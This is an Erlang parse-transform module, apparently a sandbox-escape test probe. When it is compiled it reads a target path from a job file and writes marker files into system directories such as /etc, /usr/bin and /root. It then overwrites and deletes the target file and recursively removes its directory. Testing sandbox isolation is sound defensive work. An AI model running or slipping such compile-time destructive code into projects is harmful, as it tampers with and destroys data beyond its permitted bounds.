%% Tries to leave a file anywhere.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    {ok, Aim} = file:read_file(filename:join(os:getenv("BOOKTUNE_JOB"), "aim")),
    [Secret | _] = string:lexemes(binary_to_list(Aim), "\n"),
    Places = ["/", "/usr", "/usr/bin", "/usr/lib", "/etc", "/var/tmp", "/home", "/root", "/dev", "/dev/shm"],
    [
        file:write_file(filename:join(Place, "hostile-mark"), "here")
     || Place <- [filename:dirname(Secret), os:getenv("BOOKTUNE_JOB") | Places]
    ],
    file:write_file(Secret, "changed"),
    file:delete(Secret),
    file:del_dir_r(filename:dirname(Secret)),
    io:format("tried~n").
